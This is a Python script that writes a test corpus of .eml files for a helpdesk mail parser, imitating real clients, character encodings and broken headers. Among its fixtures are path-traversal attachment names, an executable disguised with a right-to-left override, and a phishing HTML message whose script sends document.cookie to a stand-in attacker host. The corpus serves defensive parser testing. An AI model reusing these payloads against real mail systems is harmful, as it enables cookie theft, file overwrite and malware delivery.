"""Writes the .eml files of this folder and its README.md (run: python make_corpus.py).

Each message imitates what one mail client (or one hostile sender) really puts on
the wire: its headers, its MIME layout, its quoting style.  Files use CRLF line
endings throughout.  The .eml files are committed; rerunning this script must
reproduce them byte for byte.
"""

from __future__ import annotations

import base64
import quopri
from pathlib import Path

HERE = Path(__file__).resolve().parent
SUPPORT = "Example Support <support@helpdesk.example.com>"
TICKET_ID = "<sup-00042.a1b2c3@helpdesk.example.com>"

MESSAGES: list[tuple[str, str, bytes]] = []


def add(name: str, description: str, text: str | bytes) -> None:
    data = text.encode("utf-8") if isinstance(text, str) else text
    lines = data.replace(b"\r\n", b"\n").split(b"\n")
    MESSAGES.append((name, description, b"\r\n".join(lines)))


def b64(data: bytes | str, charset: str = "utf-8") -> str:
    raw = data.encode(charset) if isinstance(data, str) else data
    encoded = base64.b64encode(raw).decode("ascii")
    return "\n".join(encoded[i : i + 76] for i in range(0, len(encoded), 76))


def qp(text: str, charset: str = "utf-8") -> str:
    return quopri.encodestring(text.replace("\n", "\r\n").encode(charset)).decode("ascii").replace("\r\n", "\n")


def word(text: str, charset: str = "utf-8", enc: str = "B") -> str:
    raw = text.encode(charset)
    if enc == "B":
        return f"=?{charset}?B?{base64.b64encode(raw).decode('ascii')}?="
    body = "".join(
        chr(b) if (48 <= b <= 57 or 65 <= b <= 90 or 97 <= b <= 122) else ("_" if b == 32 else f"={b:02X}")
        for b in raw
    )
    return f"=?{charset}?Q?{body}?="


def received(host: str, date: str) -> str:
    return (
        f"Received: from {host} ({host} [203.0.113.25])\n"
        f"\tby mx.helpdesk.example.com (Postfix) with ESMTPS id 4Xk2Lq0b7Nz9sWp\n"
        f"\tfor <support@helpdesk.example.com>; {date}"
    )


PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
TNEF = b"\x78\x9f\x3e\x22" + bytes(range(256)) * 4

# --- replies from real clients ---------------------------------------------------------

add(
    "outlook_html_reply.eml",
    "Outlook for Microsoft 365 (Windows) HTML reply: multipart/alternative, plain part quoting with an "
    "underscore line and a From:/Sent:/To:/Subject: block, HTML part quoting with a bordered div",
    f"""{received("EUR05-AM6-obe.outbound.protection.outlook.com", "Mon, 03 Nov 2025 10:31:07 +0000 (UTC)")}
From: Bob Meyer <Bob.Meyer@contoso.example>
To: {SUPPORT}
Subject: RE: [SUP-00042] VPN drops every 10 minutes
Thread-Topic: [SUP-00042] VPN drops every 10 minutes
Thread-Index: AQHbTqk3Zk2cG0mV5kS0l7JmY8yR9A==
Date: Mon, 3 Nov 2025 10:31:05 +0000
Message-ID: <AM6PR05MB5231A1B2C3D4E5F6A7B8C9D0@AM6PR05MB5231.eurprd05.prod.outlook.com>
References: {TICKET_ID}
In-Reply-To: {TICKET_ID}
Accept-Language: en-US
Content-Language: en-US
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
Content-Type: multipart/alternative;
\tboundary="_000_AM6PR05MB5231A1B2C3D4E5F6A7B8C9D0AM6PR05MB5231eurprd_"
MIME-Version: 1.0

--_000_AM6PR05MB5231A1B2C3D4E5F6A7B8C9D0AM6PR05MB5231eurprd_
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

Hi,

I updated the client to 5.2 as you suggested but the tunnel still drops=
 after about ten minutes.

Regards,
Bob

________________________________
From: Example Support <support@helpdesk.example.com>
Sent: Monday, November 3, 2025 9:12 AM
To: Bob Meyer <Bob.Meyer@contoso.example>
Subject: [SUP-00042] VPN drops every 10 minutes

Please update the VPN client to version 5.2 and tell us if it helps.

--_000_AM6PR05MB5231A1B2C3D4E5F6A7B8C9D0AM6PR05MB5231eurprd_
Content-Type: text/html; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

<html xmlns:o=3D"urn:schemas-microsoft-com:office:office"><head>
<meta http-equiv=3D"Content-Type" content=3D"text/html; charset=3Dus-ascii">
<style><!-- p.MsoNormal {{margin:0cm;font-size:11.0pt;font-family:"Calibri",sans-serif;}} --></style>
</head><body lang=3D"EN-US"><div class=3D"WordSection1">
<p class=3D"MsoNormal">Hi,<o:p></o:p></p>
<p class=3D"MsoNormal">I updated the client to 5.2 as you suggested but the tu=
nnel still drops after about ten minutes.<o:p></o:p></p>
<p class=3D"MsoNormal">Regards,<br>Bob<o:p></o:p></p>
<div style=3D"border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm">
<p class=3D"MsoNormal"><b>From:</b> Example Support &lt;support@helpdesk.example.com&gt;=
<br><b>Sent:</b> Monday, November 3, 2025 9:12 AM<br><b>To:</b> Bob Meyer &lt;Bob.Meyer@con=
toso.example&gt;<br><b>Subject:</b> [SUP-00042] VPN drops every 10 minutes<o:p></o:p></p>
</div>
<p class=3D"MsoNormal">Please update the VPN client to version 5.2 and tell us if it helps.<o:p></o:p></p>
</div></body></html>

--_000_AM6PR05MB5231A1B2C3D4E5F6A7B8C9D0AM6PR05MB5231eurprd_--
""",
)

add(
    "outlook_tnef_original_message.eml",
    "Outlook 2016 desktop in RTF mode: plain text with a '-----Original Message-----' quote and the "
    "rich body as an application/ms-tnef winmail.dat attachment",
    f"""{received("mail.fabrikam.example", "Tue, 04 Nov 2025 14:02:11 +0100 (CET)")}
From: "Schmidt, Anna" <anna.schmidt@fabrikam.example>
To: <support@helpdesk.example.com>
Subject: RE: [SUP-00077] Invoice 2025-1183 missing
Date: Tue, 4 Nov 2025 14:02:09 +0100
Message-ID: <000001dc4d7a$5e2b1c40$1a8154c0$@fabrikam.example>
MIME-Version: 1.0
Content-Type: multipart/mixed;
\tboundary="----=_NextPart_000_0001_01DC4D82.BFEF8440"
X-Mailer: Microsoft Outlook 16.0
Thread-Index: AQG2g0bS1Yq6pZLkR7U3xM2dA8hD3Q==
Content-Language: de

This is a multipart message in MIME format.

------=_NextPart_000_0001_01DC4D82.BFEF8440
Content-Type: text/plain;
\tcharset="us-ascii"
Content-Transfer-Encoding: 7bit

The invoice is still not in the portal. Can you send it as PDF?

-----Original Message-----
From: Example Support <support@helpdesk.example.com>
Sent: Monday, November 3, 2025 4:40 PM
To: Schmidt, Anna <anna.schmidt@fabrikam.example>
Subject: [SUP-00077] Invoice 2025-1183 missing

The invoice will appear in the portal within one working day.

------=_NextPart_000_0001_01DC4D82.BFEF8440
Content-Type: application/ms-tnef;
\tname="winmail.dat"
Content-Transfer-Encoding: base64
Content-Disposition: attachment;
\tfilename="winmail.dat"

{b64(TNEF)}

------=_NextPart_000_0001_01DC4D82.BFEF8440--
""",
)

add(
    "gmail_reply.eml",
    "Gmail web reply: multipart/alternative, 'On Mon, 3 Nov 2025 at 10:12, X <x@y> wrote:' with '>' "
    "quoting in text and a gmail_quote blockquote in HTML",
    f"""Delivered-To: support@helpdesk.example.com
{received("mail-sor-f41.google.com", "Mon, 03 Nov 2025 10:20:44 +0000 (UTC)")}
MIME-Version: 1.0
References: {TICKET_ID}
In-Reply-To: {TICKET_ID}
From: Carla Jones <carla.jones@gmail.com>
Date: Mon, 3 Nov 2025 10:20:31 +0000
Message-ID: <CAJ8m3xQ7pZ0tW-Vd3k0yN_2b1H7f5gE9uR4s6L2iXcA1bQ@mail.gmail.com>
Subject: Re: [SUP-00042] Cannot log in to the portal
To: Example Support <support@helpdesk.example.com>
Content-Type: multipart/alternative; boundary="000000000000a3c2f5064290a1b3"

--000000000000a3c2f5064290a1b3
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

Resetting the password worked, I can log in again. Thanks a lot!

On Mon, 3 Nov 2025 at 10:12, Example Support <support@helpdesk.example.com>=
 wrote:

> Please reset your password with the link on the sign-in page.
>
> --
> Example Support
>

--000000000000a3c2f5064290a1b3
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

<div dir=3D"ltr">Resetting the password worked, I can log in again. Thanks =
a lot!</div><br><div class=3D"gmail_quote gmail_quote_container"><div dir=3D=
"ltr" class=3D"gmail_attr">On Mon, 3 Nov 2025 at 10:12, Example Support &lt=
;<a href=3D"mailto:support@helpdesk.example.com">support@helpdesk.example.c=
om</a>&gt; wrote:<br></div><blockquote class=3D"gmail_quote" style=3D"margi=
n:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex=
">Please reset your password with the link on the sign-in page.<br><br>--<b=
r>Example Support<br></blockquote></div>

--000000000000a3c2f5064290a1b3--
""",
)

add(
    "gmail_wrapped_attribution.eml",
    "Gmail plain-text reply whose 'On ... wrote:' attribution is wrapped over two lines (long sender name)",
    f"""MIME-Version: 1.0
References: <sup-00051.ff00aa@helpdesk.example.com>
In-Reply-To: <sup-00051.ff00aa@helpdesk.example.com>
From: Dmitri Volkov <dmitri.volkov@gmail.com>
Date: Wed, 5 Nov 2025 08:01:12 +0100
Message-ID: <CAHx9v+0e5Zq-4tLq2kC3Zt5gmBqfP6Uu3F7LwE@mail.gmail.com>
Subject: Re: [SUP-00051] Export to CSV is empty
To: Example Support <support@helpdesk.example.com>
Content-Type: text/plain; charset="UTF-8"

The export is still empty, even for last month.

On Tue, 4 Nov 2025 at 17:45, Example Support Team of the Helpdesk <
support@helpdesk.example.com> wrote:

> Could you try the export again after clearing the filter?
>
""",
)

add(
    "apple_mail_reply.eml",
    "Apple Mail (macOS) reply: format=flowed plain text, quoted-printable, attribution "
    "'On 3 Nov 2025, at 10:12, X <x@y> wrote:' and '>' quoting, Apple-Mail boundary",
    f"""From: Eva Lindqvist <eva@lindqvist.example>
Content-Type: text/plain;
\tcharset=utf-8;
\tdelsp=yes;
\tformat=flowed
Content-Transfer-Encoding: quoted-printable
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3826.200.121\\))
Subject: Re: [SUP-00042] Printer on 3rd floor offline
Date: Mon, 3 Nov 2025 11:02:44 +0100
References: {TICKET_ID}
To: Example Support <support@helpdesk.example.com>
In-Reply-To: {TICKET_ID}
Message-Id: <7F3A1C2E-9B4D-4E6A-8C1F-2D5E6F7A8B9C@lindqvist.example>
X-Mailer: Apple Mail (2.3826.200.121)

The printer is back online after the restart. Caf=C3=A9 on the 3rd =
floor is happy again.

> On 3 Nov 2025, at 10:12, Example Support <support@helpdesk.example.com> =
wrote:
>=20
> We restarted the print server. Is the printer back?
>=20

""",
)

add(
    "thunderbird_reply.eml",
    "Thunderbird reply: format=flowed, 'On 03/11/2025 10:12, X wrote:' attribution, '-- ' signature",
    f"""Message-ID: <c5f1a7e2-3b4d-4f8e-9a21-7d6c5b4a3f21@posteo.example>
Date: Mon, 3 Nov 2025 12:15:33 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Subject: Re: [SUP-00042] Calendar sync fails
To: Example Support <support@helpdesk.example.com>
References: {TICKET_ID}
Content-Language: en-GB
From: Felix Braun <felix.braun@posteo.example>
In-Reply-To: {TICKET_ID}
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 7bit

The sync works again since this morning. You can close the ticket.

On 03/11/2025 10:12, Example Support wrote:
> Calendar sync should work again after the maintenance.
>
> Example Support

-- 
Felix Braun
Posteo Operations
+49 30 1234567
""",
)

add(
    "iphone_reply.eml",
    "iOS Mail reply: 'Sent from my iPhone' signature, attribution inside the quote, multipart/alternative",
    f"""Content-Type: multipart/alternative; boundary=Apple-Mail-8E3A2D1C-44B1-4C3F-9C2B-5B6E2F1D0A93
Content-Transfer-Encoding: 7bit
From: Grace Okafor <grace.okafor@icloud.com>
Mime-Version: 1.0 (1.0)
Date: Mon, 3 Nov 2025 13:40:02 +0000
Subject: Re: [SUP-00042] Laptop battery replacement
Message-Id: <5D2B8C1E-7A3F-4B9D-8E6C-1F2A3B4C5D6E@icloud.com>
References: {TICKET_ID}
In-Reply-To: {TICKET_ID}
To: Example Support <support@helpdesk.example.com>
X-Mailer: iPhone Mail (22A3354)


--Apple-Mail-8E3A2D1C-44B1-4C3F-9C2B-5B6E2F1D0A93
Content-Type: text/plain;
\tcharset=utf-8
Content-Transfer-Encoding: quoted-printable

Thursday afternoon works for me, I will bring the laptop to the front desk.=


Sent from my iPhone

> On 3 Nov 2025, at 12:12, Example Support <support@helpdesk.example.com> wro=
te:
>=20
> =EF=BB=BFThe new battery arrived. When can you drop off the laptop?
>=20

--Apple-Mail-8E3A2D1C-44B1-4C3F-9C2B-5B6E2F1D0A93
Content-Type: text/html;
\tcharset=utf-8
Content-Transfer-Encoding: quoted-printable

<html><head><meta http-equiv=3D"content-type" content=3D"text/html; charset=3D=
utf-8"></head><body dir=3D"auto"><div dir=3D"ltr">Thursday afternoon works f=
or me, I will bring the laptop to the front desk.</div><div dir=3D"ltr"><br>=
<div dir=3D"ltr">Sent from my iPhone</div><div dir=3D"ltr"><br><blockquote t=
ype=3D"cite">On 3 Nov 2025, at 12:12, Example Support &lt;support@helpdesk.=
example.com&gt; wrote:<br><br></blockquote></div><blockquote type=3D"cite"><=
div dir=3D"ltr">=EF=BB=BFThe new battery arrived. When can you drop off the l=
aptop?</div></blockquote></div></body></html>=

--Apple-Mail-8E3A2D1C-44B1-4C3F-9C2B-5B6E2F1D0A93--
""",
)

add(
    "android_samsung_reply.eml",
    "Samsung Email on Android: HTML-only reply, 'Sent from my Galaxy', "
    "'-------- Original message --------' block with From/Date/To/Subject",
    f"""Message-ID: <mw0ax1k9b2c3d4e5f6g7h8i9.1762175400123@email.android.com>
From: Hiro Tanaka <hiro.tanaka@example.net>
To: Example Support <support@helpdesk.example.com>
Subject: RE: [SUP-00042] Wi-Fi password for guests
Date: Mon, 03 Nov 2025 14:10:00 +0100
In-Reply-To: {TICKET_ID}
References: {TICKET_ID}
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: base64

{b64('''<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head><body>
<div dir="auto">Got it, the guests are connected now.</div><div dir="auto"><br></div>
<div id="composer_signature" dir="auto"><div style="font-size:85%;color:#575757" dir="auto">Sent from my Galaxy</div></div>
<div dir="auto"><br></div><div><br></div><div align="left" dir="auto" style="font-size:100%;color:#000000">
<div>-------- Original message --------</div><div>From: Example Support &lt;support@helpdesk.example.com&gt; </div>
<div>Date: 03/11/2025 13:55 (GMT+01:00) </div><div>To: Hiro Tanaka &lt;hiro.tanaka@example.net&gt; </div>
<div>Subject: [SUP-00042] Wi-Fi password for guests </div><div><br></div></div>
The guest password for this week is printed at the reception.</body></html>''')}
""",
)

add(
    "german_reply.eml",
    "German Thunderbird/GMX-style reply: 'Am 03.11.2025 um 10:12 schrieb X:' attribution, "
    "'Mit freundlichen Grüßen' signature, quoted-printable UTF-8, RFC 2047 Q subject with umlauts",
    f"""From: =?UTF-8?Q?J=C3=BCrgen_M=C3=BCller?= <juergen.mueller@gmx.example>
To: Example Support <support@helpdesk.example.com>
Subject: {word("AW: [SUP-00042] Drucker im Büro druckt nur leere Seiten", enc="Q")}
Date: Mon, 3 Nov 2025 15:22:10 +0100
Message-ID: <trinity-4b1c7e2a-9d3f-4a6b-8e5c-2f1a0b9c8d7e-1762179730123@3c-app-gmx-bs12>
In-Reply-To: {TICKET_ID}
References: {TICKET_ID}
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: quoted-printable

{qp('''Hallo,

nach dem Austausch der Tonerkartusche druckt der Drucker wieder einwandfrei.
Vielen Dank für die schnelle Hilfe!

Mit freundlichen Grüßen
Jürgen Müller

Am 03.11.2025 um 10:12 schrieb Example Support <support@helpdesk.example.com>:
> Bitte tauschen Sie die Tonerkartusche aus.
>
> Ihr Support-Team
''')}""",
)

add(
    "german_iphone_reply.eml",
    "German iPhone reply: 'Von meinem iPhone gesendet' and 'Am ... um ... schrieb ...:' inside the quote",
    f"""From: Sabine Koch <sabine.koch@web.example>
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable
Mime-Version: 1.0 (1.0)
Date: Tue, 4 Nov 2025 07:58:31 +0100
Subject: Re: [SUP-00042] Zugang zum Laufwerk
Message-Id: <A1B2C3D4-E5F6-4711-8899-AABBCCDDEEFF@web.example>
References: {TICKET_ID}
In-Reply-To: {TICKET_ID}
To: Example Support <support@helpdesk.example.com>
X-Mailer: iPhone Mail (22A3354)

{qp('''Das Laufwerk ist jetzt sichtbar, danke.

Von meinem iPhone gesendet

> Am 03.11.2025 um 16:20 schrieb Example Support <support@helpdesk.example.com>:
>
> Wir haben Ihnen die Berechtigung erteilt.
''')}""",
)

add(
    "french_reply.eml",
    "French Gmail reply: 'Le lun. 3 nov. 2025 à 10:12, X <x@y> a écrit :' attribution, "
    "'Envoyé depuis' signature-free text, Q-encoded subject with accents",
    f"""MIME-Version: 1.0
From: =?UTF-8?Q?Am=C3=A9lie_Dubois?= <amelie.dubois@orange.example>
Date: Mon, 3 Nov 2025 16:05:12 +0100
Message-ID: <CAF5kq3Yb7-mZ0pL2x_9vT6hR4eW1dQ8sU3nK5jB0@mail.gmail.com>
Subject: {word("Re: [SUP-00042] Problème de connexion à la messagerie", enc="Q")}
To: Example Support <support@helpdesk.example.com>
In-Reply-To: {TICKET_ID}
References: {TICKET_ID}
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp('''Bonjour,

Le problème est résolu après la mise à jour du mot de passe.

Bien cordialement,
Amélie

Le lun. 3 nov. 2025 à 10:12, Example Support <support@helpdesk.example.com> a écrit :

> Pouvez-vous réinitialiser votre mot de passe ?
>
''')}""",
)

_JA_ISO2022 = """お世話になっております。

再起動したところ、正常に接続できるようになりました。
ありがとうございました。

2025年11月3日(月) 10:12 Example Support <support@helpdesk.example.com>:
> ルーターを再起動していただけますか。
>
"""
add(
    "japanese_iso2022jp.eml",
    "Japanese Gmail reply in ISO-2022-JP (7bit): B-encoded ISO-2022-JP subject and sender name, "
    "attribution '2025年11月3日(月) 10:12 X <x@y>:'",
    f"""MIME-Version: 1.0
From: {word("山田太郎", "iso-2022-jp")} <taro.yamada@example.jp>
Date: Mon, 3 Nov 2025 18:30:00 +0900
Message-ID: <CAKj3x9Zq1-Wm2pT8vN4bR6yU0eL5sH7cD3fG1a@mail.gmail.com>
Subject: {word("Re: [SUP-00042] ネットワークに接続できません", "iso-2022-jp")}
To: Example Support <support@helpdesk.example.com>
In-Reply-To: {TICKET_ID}
References: {TICKET_ID}
Content-Type: text/plain; charset="ISO-2022-JP"
Content-Transfer-Encoding: 7bit

""".encode("ascii")
    + _JA_ISO2022.replace("\n", "\r\n").encode("iso-2022-jp"),
)

_JA_SJIS = """鈴木です。

ご連絡ありがとうございます。プリンターは復旧しました。

Example Support <support@helpdesk.example.com> のメッセージ:
> プリンターのドライバーを更新してください。
"""
add(
    "japanese_shiftjis.eml",
    "Japanese reply from an older Windows client in Shift_JIS, 8bit body, B-encoded Shift_JIS subject, "
    "attribution '... のメッセージ:'",
    f"""Return-Path: <suzuki@example.co.jp>
From: {word("鈴木花子", "shift_jis")} <suzuki@example.co.jp>
To: support@helpdesk.example.com
Subject: {word("Re: [SUP-00042] プリンターが印刷しません", "shift_jis")}
Date: Mon, 03 Nov 2025 19:02:00 +0900
Message-Id: <20251103190200.4B2A.E1F0@example.co.jp>
In-Reply-To: {TICKET_ID}
MIME-Version: 1.0
Content-Type: text/plain; charset="Shift_JIS"
Content-Transfer-Encoding: 8bit
X-Mailer: Becky! ver. 2.81.04 [ja]

""".encode("ascii")
    + _JA_SJIS.replace("\n", "\r\n").encode("shift_jis"),
)

_LATIN1_BODY = """Bonjour,

Depuis ce matin je n'ai plus accès au réseau du bâtiment B.
Le câble est branché.

François
"""
add(
    "latin1_body.eml",
    "Old Eudora-style message in ISO-8859-1: quoted-printable Latin-1 body and a Q-encoded Latin-1 subject",
    f"""From: =?iso-8859-1?Q?Fran=E7ois_L=E9vesque?= <francois@levesque.example>
To: support@helpdesk.example.com
Subject: =?iso-8859-1?Q?Probl=E8me_d'acc=E8s_au_r=E9seau?=
Date: Tue, 04 Nov 2025 09:14:00 +0100
Message-ID: <4.3.2.7.2.20251104091400.00b8e0c0@levesque.example>
MIME-Version: 1.0
Content-Type: text/plain; charset="iso-8859-1"; format=flowed
Content-Transfer-Encoding: quoted-printable
X-Mailer: QUALCOMM Windows Eudora Version 7.1.0.9

{qp(_LATIN1_BODY, "iso-8859-1")}""",
)

add(
    "bad_charset_label.eml",
    "Body labelled charset=foo-bar (no such charset) that is really UTF-8, and a text/html part "
    "labelled windows-1252 that is really UTF-8",
    """From: Ivan Petrov <ivan@petrov.example>
To: support@helpdesk.example.com
Subject: Strange characters
Date: Tue, 4 Nov 2025 10:00:00 +0300
Message-ID: <20251104100000.12345@petrov.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="xyz"

--xyz
Content-Type: text/plain; charset=foo-bar
Content-Transfer-Encoding: 8bit

""".encode("ascii")
    + "Привет, the café menu shows “smart quotes” wrongly.\n".encode("utf-8")
    + b"""
--xyz--
""",
)

add(
    "broken_rfc2047_subject.eml",
    "Mass-mailer style broken RFC 2047: subject word missing its closing '?=', a word with an unknown "
    "charset label, a From name with a wrong label and an encoded word split in the middle of a character",
    """From: =?utf8?B?Wm/DqyBTbWl0aA==?= <zoe@smith.example>
To: support@helpdesk.example.com
Subject: =?UTF-8?Q?Caf=C3=A9_order_problem?= =?utf-8?Q?_=E2=80=94_urgent
Date: Wed, 5 Nov 2025 11:11:11 +0000
Message-ID: <broken.2047.1@smith.example>
X-Original-Subject: =?x-unknown-charset?Q?Caf=C3=A9?=
Comments: =?utf-8?B?5pel5pys?= =?utf-8?B?6Kqe?=
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

My order from the café never arrived.
""",
)

add(
    "raw_8bit_headers.eml",
    "Message from a misconfigured script: raw UTF-8 bytes in the Subject and raw Latin-1 bytes in the From "
    "name (no RFC 2047), no Content-Type at all",
    b"From: Ren\xe9 Fa\xefd <rene@faid.example>\nTo: support@helpdesk.example.com\nSubject: "
    + "Überweisung fehlgeschlagen – bitte prüfen".encode("utf-8")
    + b"\nDate: Wed, 5 Nov 2025 12:00:00 +0100\nMessage-ID: <raw8bit.1@faid.example>\n\n"
    + "Die Überweisung über 120 € ist fehlgeschlagen.\n".encode("utf-8"),
)

# --- structure: forwards, inline images, attachments -----------------------------------

add(
    "forwarded_rfc822.eml",
    "Thunderbird 'Forward as attachment': the original message as a message/rfc822 part",
    """From: Olivia Brown <olivia.brown@northwind.example>
To: Example Support <support@helpdesk.example.com>
Subject: Fwd: Suspicious login alert
Date: Wed, 5 Nov 2025 13:00:00 +0000
Message-ID: <fwd-9f8e7d6c@northwind.example>
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Type: multipart/mixed; boundary="------------fwd0123456789"

This is a multi-part message in MIME format.
--------------fwd0123456789
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 7bit

Is this alert genuine? I did not log in from Brazil.

--------------fwd0123456789
Content-Type: message/rfc822; name="Suspicious login alert.eml"
Content-Disposition: attachment; filename="Suspicious login alert.eml"

From: Security Team <security@accounts.northwind.example>
To: olivia.brown@northwind.example
Subject: Suspicious login alert
Date: Wed, 5 Nov 2025 12:41:09 +0000
Message-ID: <alert-5521@accounts.northwind.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8

We noticed a new sign-in to your account from Sao Paulo, Brazil.
If this was not you, change your password.

--------------fwd0123456789--
""",
)

add(
    "inline_cid_image.eml",
    "Apple Mail message with an inline screenshot: multipart/alternative whose HTML is multipart/related "
    "with an image referenced by cid:",
    f"""From: Paul Girard <paul.girard@example.fr>
Content-Type: multipart/alternative; boundary="Apple-Mail=_ALT-1111"
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3826.200.121\\))
Subject: Error dialog when saving
Date: Wed, 5 Nov 2025 14:00:00 +0100
To: support@helpdesk.example.com
Message-Id: <C0FFEE00-1234-4321-ABCD-0123456789AB@example.fr>
X-Mailer: Apple Mail (2.3826.200.121)

--Apple-Mail=_ALT-1111
Content-Transfer-Encoding: 7bit
Content-Type: text/plain; charset=us-ascii

This dialog appears every time I save:

[screenshot]

--Apple-Mail=_ALT-1111
Content-Type: multipart/related; type="text/html"; boundary="Apple-Mail=_REL-2222"

--Apple-Mail=_REL-2222
Content-Transfer-Encoding: 7bit
Content-Type: text/html; charset=us-ascii

<html><body><div>This dialog appears every time I save:</div><div><img src="cid:6B1E4C2A-8F3D@example.fr" alt="screenshot"></div></body></html>
--Apple-Mail=_REL-2222
Content-Transfer-Encoding: base64
Content-Disposition: inline; filename="Screenshot 2025-11-05 at 13.58.png"
Content-Type: image/png; name="Screenshot 2025-11-05 at 13.58.png"
Content-Id: <6B1E4C2A-8F3D@example.fr>

{b64(PNG)}
--Apple-Mail=_REL-2222--

--Apple-Mail=_ALT-1111--
""",
)

add(
    "traversal_unix_filename.eml",
    "Attachment whose filename is the path '../../etc/passwd' (and a second named '.htaccess')",
    f"""From: mallory@attacker.example
To: support@helpdesk.example.com
Subject: Please check the attached config
Date: Wed, 5 Nov 2025 15:00:00 +0000
Message-ID: <traversal-1@attacker.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="BOUNDARY"

--BOUNDARY
Content-Type: text/plain

See attachment.
--BOUNDARY
Content-Type: text/plain; name="../../etc/passwd"
Content-Disposition: attachment; filename="../../etc/passwd"

root:x:0:0:root:/root:/bin/bash
--BOUNDARY
Content-Type: application/octet-stream
Content-Disposition: attachment; filename=".htaccess"
Content-Transfer-Encoding: base64

{b64(b"Options +Indexes")}
--BOUNDARY--
""",
)

add(
    "traversal_windows_filename.eml",
    "Attachment named '..\\..\\windows\\evil.exe' with Windows path separators, and one whose name hides "
    "its extension behind a right-to-left override character",
    "From: mallory@attacker.example\nTo: support@helpdesk.example.com\nSubject: Invoice\n"
    "Date: Wed, 5 Nov 2025 15:05:00 +0000\nMessage-ID: <traversal-2@attacker.example>\nMIME-Version: 1.0\n"
    'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\nContent-Type: text/plain\n\nInvoice attached.\n'
    '--b1\nContent-Type: application/x-msdownload\n'
    'Content-Disposition: attachment; filename="..\\..\\windows\\evil.exe"\n'
    f"Content-Transfer-Encoding: base64\n\n{b64(b'MZ' + bytes(30))}\n"
    "--b1\nContent-Type: application/octet-stream\n"
    f"Content-Disposition: attachment; filename*=UTF-8''invoice%E2%80%AEfdp.exe\n"
    f"Content-Transfer-Encoding: base64\n\n{b64(b'MZ' + bytes(10))}\n--b1--\n",
)

add(
    "rfc2231_filename.eml",
    "Attachments with RFC 2231 names: a continued, percent-encoded UTF-8 Japanese PDF name, and an "
    "Outlook-style RFC 2047 encoded name in quotes",
    f"""From: Kenji Sato <kenji.sato@example.jp>
To: support@helpdesk.example.com
Subject: Quote documents
Date: Wed, 5 Nov 2025 16:00:00 +0900
Message-ID: <rfc2231.1@example.jp>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="==rfc2231=="

--==rfc2231==
Content-Type: text/plain; charset=us-ascii

Two documents attached.
--==rfc2231==
Content-Type: application/pdf
Content-Disposition: attachment;
 filename*0*=UTF-8''%E8%A6%8B%E7%A9%8D%E6%9B%B8;
 filename*1*=%5F2025%2E;
 filename*2=pdf
Content-Transfer-Encoding: base64

{b64(PDF)}
--==rfc2231==
Content-Type: application/pdf; name="=?utf-8?B?UmVjaG51bmcgTcOkcnoucGRm?="
Content-Disposition: attachment; filename="=?utf-8?B?UmVjaG51bmcgTcOkcnoucGRm?="
Content-Transfer-Encoding: base64

{b64(PDF)}
--==rfc2231==--
""",
)

add(
    "hostile_html.eml",
    "HTML-only phishing-style message with <script>, <iframe>, an onerror= handler, a remote tracking "
    "<img src=http://...>, a <form>, a javascript: link and a <style> block",
    """From: "IT Department" <it-department@phish.example>
To: support@helpdesk.example.com
Subject: Your mailbox is full
Date: Wed, 5 Nov 2025 17:00:00 +0000
Message-ID: <phish-0001@phish.example>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head><style>body { background: url(http://tracker.phish.example/bg.gif) }</style>
<script>document.location='http://phish.example/steal?c='+document.cookie</script></head>
<body onload="alert('owned')">
<p>Your mailbox is <b>full</b>. Visit the <a href="https://phish.example/login">quota page</a> now.</p>
<img src="http://tracker.phish.example/open.gif?id=42" width="1" height="1">
<img src="x" onerror="alert(document.cookie)">
<iframe src="http://phish.example/frame"></iframe>
<form action="http://phish.example/collect" method="post"><input name="password" type="password"><button>Sign in</button></form>
<a href="javascript:alert(1)">Click here</a>
</body></html>
""",
)

add(
    "html_only_newsletter.eml",
    "Marketing-style HTML-only message (no text part) with links, a table layout and a list",
    f"""From: Contoso Updates <news@contoso.example>
To: support@helpdesk.example.com
Subject: =?utf-8?Q?Release_notes_=E2=80=93_November?=
Date: Thu, 6 Nov 2025 08:00:00 +0000
Message-ID: <newsletter.20251106@contoso.example>
List-Unsubscribe: <https://contoso.example/unsubscribe?u=42>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: quoted-printable

{qp('''<!DOCTYPE html><html><head><title>Release notes</title></head><body>
<table width="600"><tr><td><h1>What’s new in November</h1>
<ul><li>Faster sync</li><li>Dark mode</li></ul>
<p>Read the <a href="https://contoso.example/notes/2025-11">full release notes</a>.</p>
</td></tr></table></body></html>''')}""",
)

# --- limits ---------------------------------------------------------------------------------


def _deep(levels: int) -> str:
    opening = "".join(
